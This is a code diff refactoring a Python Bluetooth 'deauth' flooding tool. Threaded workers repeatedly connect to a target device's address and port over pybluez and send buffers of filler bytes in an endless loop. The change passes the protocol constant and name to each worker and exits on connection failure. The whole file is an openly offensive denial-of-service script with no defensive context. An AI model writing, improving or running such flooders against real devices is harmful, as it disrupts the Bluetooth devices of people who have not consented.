@@ -1,21 +1,23 @@
 import bluetooth
 import logger
+import sys
 import time
 
 from utils.async_utils import create_async_task
 from utils.bt_utils import BTProtocol
 
-def deauth(target: str, port: int, protocol: BTProtocol, packet_size: int, worker_id: int):
-    worker = f"Worker-{str(worker_id).zfill(2)}"
+def deauth(target: str, port: int, protocol_value: int, protocol_name: str, packet_size: int, worker_id: int):
+    worker = f"Worker-{worker_id:02d}"
     job_id = 0
+    payload = b'\x01' * packet_size
 
     while True:
         job = f"Job-{job_id}"
         prefix = f" <lblack>[{worker} | {job}]<reset>    "
         
         # Create socket.
-        logger.info(f"{prefix}Connecting <lgreen>{target}<reset> using <lgreen>{protocol.name.upper()}<reset> protocol (Port <lgreen>{port}<reset>)...")
-        sock = bluetooth.BluetoothSocket(protocol.value)  
+        logger.info(f"{prefix}Connecting <lgreen>{target}<reset> using <lgreen>{protocol_name}<reset> protocol (Port <lgreen>{port}<reset>)...")
+        sock = bluetooth.BluetoothSocket(protocol_value)  
         bd_dev = (target, port)
         
         # Connect socket
@@ -24,12 +26,11 @@ def deauth(target: str, port: int, protocol: BTProtocol, packet_size: int, worke
             sock.settimeout(10)
             
             # Send deauth packet
-            payload = b'\x01' * packet_size
             logger.info(f"{prefix}Sending deauth packets to <lgreen>{target}<reset> (<lgreen>{len(payload)} buffer size<reset>) ...")
             sock.send(payload)
         except bluetooth.BluetoothError as e:
             logger.err(f"{prefix}<lred>Failed to connect to {target}: {e}")
-            break
+            sys.exit(1)
         finally:
             sock.close()
         
@@ -37,4 +38,7 @@ def deauth(target: str, port: int, protocol: BTProtocol, packet_size: int, worke
         job_id += 1
         
 def deauth_async(target: str, port: int, protocol: BTProtocol, packet_size: int, threads: int):
-    create_async_task(threads, deauth, (target, port, protocol, packet_size))
\ No newline at end of file
+    # Workers get the plain pybluez constant and display name, not the enum.
+    protocol_value = getattr(bluetooth, protocol.value)
+    protocol_name = protocol.name.upper()
+    create_async_task(threads, deauth, (target, port, protocol_value, protocol_name, packet_size))
\ No newline at end of file